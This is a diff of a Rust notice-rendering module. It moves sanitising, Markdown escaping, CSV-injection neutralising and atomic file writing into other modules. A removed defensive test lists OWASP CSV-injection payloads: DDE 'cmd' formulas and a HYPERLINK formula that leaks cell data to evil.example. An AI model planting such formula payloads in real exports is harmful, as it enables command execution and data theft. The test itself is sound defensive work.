@@ -18,13 +18,14 @@
 //! Every notice says that a flag is a suspicion for review, not proof ([`SUSPICION_SENTENCE`]).
 
 use std::fmt::Write as _;
-use std::io::{self, Write as _};
+use std::io;
 use std::path::{Path, PathBuf};
 
 use chrono::{DateTime, SecondsFormat, Utc};
 use serde::{Deserialize, Serialize};
 
 use crate::policy::{Decision, ReasonCode, Verdict};
+use crate::text::{csv_cell, markdown_escape};
 
 /// Version of the notice record (the `schema_version` member).
 pub const NOTICE_SCHEMA_VERSION: u32 = 1;
@@ -428,7 +429,7 @@ impl Notice {
     }
 
     /// The Markdown rendering. Every vendor-supplied string (vendor, file name, item ids, labels, reason
-    /// details) is sanitised ([`sanitize_text`]) and escaped ([`markdown_escape`]).
+    /// details) is sanitised and escaped ([`markdown_escape`]).
     pub fn to_markdown(&self, settings: &NoticeSettings) -> String {
         let cap = settings.max_string_chars;
         let esc = |s: &str| markdown_escape(s, cap);
@@ -625,56 +626,6 @@ fn code_text(code: &str) -> String {
         .collect()
 }
 
-/// Whether a character is a control or bidirectional-formatting character that must never reach a
-/// terminal, Markdown or HTML view: C0 (U+0000–U+001F), DEL, C1 (U+0080–U+009F), the bidi embeddings,
-/// overrides and isolates (U+202A–U+202E, U+2066–U+2069), the marks U+200E, U+200F, U+061C, and the
-/// line/paragraph separators U+2028, U+2029.
-pub fn is_unsafe_char(c: char) -> bool {
-    matches!(c,
-        '\u{0}'..='\u{1F}' | '\u{7F}'..='\u{9F}'
-        | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'
-        | '\u{200E}' | '\u{200F}' | '\u{061C}' | '\u{2028}' | '\u{2029}')
-}
-
-/// Strip unsafe characters ([`is_unsafe_char`]) and cut to `max_chars` characters (marking a cut with
-/// `…`).
-pub fn sanitize_text(s: &str, max_chars: usize) -> String {
-    let clean: Vec<char> = s.chars().filter(|c| !is_unsafe_char(*c)).collect();
-    if clean.len() <= max_chars {
-        clean.into_iter().collect()
-    } else {
-        let mut out: String = clean[..max_chars.saturating_sub(1)].iter().collect();
-        out.push('…');
-        out
-    }
-}
-
-/// Sanitise, then backslash-escape every ASCII punctuation character so the string is literal text in
-/// CommonMark (which allows a backslash before any ASCII punctuation) and in GFM table cells (`\|`).
-pub fn markdown_escape(s: &str, max_chars: usize) -> String {
-    let clean = sanitize_text(s, max_chars);
-    let mut out = String::with_capacity(clean.len() + 8);
-    for c in clean.chars() {
-        if c.is_ascii_punctuation() {
-            out.push('\\');
-        }
-        out.push(c);
-    }
-    out
-}
-
-/// Neutralise one CSV cell for spreadsheets, per OWASP's "CSV Injection" guidance: a cell whose first
-/// character — also after leading spaces — is `=`, `+`, `-`, `@`, tab, CR, LF or NUL gets a leading `'`
-/// so a spreadsheet shows it as text instead of evaluating it. (Quoting and doubling of embedded quotes
-/// is the CSV writer's job: always use `QuoteStyle::Always`.)
-pub fn csv_cell(s: &str) -> String {
-    let first = s.chars().find(|c| *c != ' ' && *c != '\u{A0}');
-    match first {
-        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\0') => format!("'{s}"),
-        _ => s.to_string(),
-    }
-}
-
 /// The notice items for a scored batch: the items whose label the repair moved (`proposed_label ≠
 /// label`), most suspicious first, each with the `label_suspected` code, its suspicion and proposed label
 /// (removed later unless disclosed).
@@ -720,7 +671,7 @@ pub fn is_safe_batch_id(id: &str) -> bool {
 /// missing): `<stem>.json` always, `<stem>.md` and `<stem>.items.csv` as configured. The notice is
 /// redacted with `settings` first. Each file is written atomically — a temporary file in the same folder,
 /// fsync, rename over the final name — and the folder is fsynced once after the last rename, which makes
-/// all the renames durable together (see [`write_atomic_all`]). Returns the paths written.
+/// all the renames durable together (see [`crate::fsx`]). Returns the paths written.
 pub fn write_notice(
     vendor_dir: &Path,
     notice: &Notice,
@@ -745,80 +696,7 @@ pub fn write_notice(
     if settings.csv {
         files.push((format!("{stem}.items.csv"), n.to_csv()?));
     }
-    write_atomic_all(vendor_dir, &files)
-}
-
-/// Write several files into one folder, each atomically, with one folder fsync for all of them:
-/// every file goes to a temporary name in `dir` and is fsynced; then each is renamed over its final name;
-/// then `dir` is fsynced once. A reader sees each final name either absent, or old, or complete and new,
-/// never partial; after a crash before the folder fsync some renames may be lost, and the caller redoes
-/// the whole write (filing is idempotent). On an error the temporary files are removed.
-pub fn write_atomic_all(dir: &Path, files: &[(String, Vec<u8>)]) -> io::Result<Vec<PathBuf>> {
-    let tmp_of = |name: &str| dir.join(format!(".{name}.tmp-{}", std::process::id()));
-    let cleanup = |upto: usize| {
-        for (name, _) in &files[..upto] {
-            let _ = std::fs::remove_file(tmp_of(name));
-        }
-    };
-    for (i, (name, bytes)) in files.iter().enumerate() {
-        let written = std::fs::OpenOptions::new()
-            .write(true)
-            .create(true)
-            .truncate(true)
-            .open(tmp_of(name))
-            .and_then(|mut f| {
-                f.write_all(bytes)?;
-                f.sync_all()
-            });
-        if let Err(e) = written {
-            cleanup(i + 1);
-            return Err(e);
-        }
-    }
-    let mut out = Vec::with_capacity(files.len());
-    for (i, (name, _)) in files.iter().enumerate() {
-        let final_path = dir.join(name);
-        if let Err(e) = std::fs::rename(tmp_of(name), &final_path) {
-            for (name, _) in &files[i..] {
-                let _ = std::fs::remove_file(tmp_of(name));
-            }
-            return Err(e);
-        }
-        out.push(final_path);
-    }
-    sync_dir(dir)?;
-    Ok(out)
-}
-
-/// Write `bytes` to `dir/name` atomically: temporary file (same folder), fsync, rename, fsync folder.
-pub fn write_atomic(dir: &Path, name: &str, bytes: &[u8]) -> io::Result<PathBuf> {
-    let final_path = dir.join(name);
-    let tmp = dir.join(format!(".{name}.tmp-{}", std::process::id()));
-    {
-        let mut f = std::fs::OpenOptions::new()
-            .write(true)
-            .create(true)
-            .truncate(true)
-            .open(&tmp)?;
-        f.write_all(bytes)?;
-        f.sync_all()?;
-    }
-    if let Err(e) = std::fs::rename(&tmp, &final_path) {
-        let _ = std::fs::remove_file(&tmp);
-        return Err(e);
-    }
-    sync_dir(dir)?;
-    Ok(final_path)
-}
-
-/// fsync a directory so a rename inside it is durable.
-pub fn sync_dir(dir: &Path) -> io::Result<()> {
-    std::fs::File::open(dir)?.sync_all()
-}
-
-/// The `<workspace>/notices/<vendor>` folder.
-pub fn vendor_notice_dir(workspace: &Path, vendor: &str) -> PathBuf {
-    workspace.join("notices").join(vendor)
+    crate::fsx::write_atomic_all(vendor_dir, &files, None)
 }
 
 #[cfg(test)]
@@ -862,33 +740,8 @@ mod tests {
         Notice::for_decision(batch(), &d, 0.3, 50, items)
     }
 
-    // OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): cells beginning with `=`,
-    // `+`, `-`, `@`, tab (0x09) or carriage return (0x0D) are read as formulas; the mitigation is to wrap
-    // every cell in double quotes, prepend a single quote, and double embedded double quotes. The attack
-    // strings below are the page's examples as we remember them (from memory; the `\0` trigger is from
-    // OWASP ASVS requirement 1.2.10).
-    #[test]
-    fn csv_cells_neutralise_owasp_examples() {
-        for attack in [
-            "=cmd|' /C calc'!A0",
-            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Error: click here\")",
-            "@SUM(1+9)*cmd|' /C calc'!A0",
-            "+cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0",
-            "\t=1+2",
-            "\r=1+2",
-            "\0=1+2",
-            "   =1+2", // after leading whitespace
-        ] {
-            let cell = csv_cell(attack);
-            assert!(cell.starts_with('\''), "{attack:?} → {cell:?}");
-            assert_eq!(&cell[1..], attack, "content kept verbatim after the quote");
-        }
-        for benign in ["item-7", "PET", "0.5", "", "a=b", "'quoted"] {
-            assert_eq!(csv_cell(benign), benign);
-        }
-    }
-
+    // OWASP, "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): the cell-level cases are in
+    // `text::tests`; this one checks the writer's quoting on a whole notice.
     #[test]
     fn csv_output_quotes_always_and_doubles_quotes_owasp_example() {
         // OWASP's worked example (same page, from memory): the cell `=1+2";=1+2` must come out as
@@ -993,16 +846,6 @@ mod tests {
             .count();
         assert_eq!(unescaped, 3, "two cells: {row}");
         assert!(md.contains("A flag is a suspicion for review, not proof"));
-    }
-
-    #[test]
-    fn sanitize_caps_length_and_strips_c0_c1_bidi() {
-        let s = format!("a\u{0}b\u{1b}[31mc\u{85}d\u{2067}e{}", "x".repeat(300));
-        let t = sanitize_text(&s, 10);
-        assert_eq!(t.chars().count(), 10);
-        assert!(t.ends_with('…'));
-        assert!(t.starts_with("ab[31mcde"));
-        assert!(!t.chars().any(is_unsafe_char));
     }
 
     #[test]
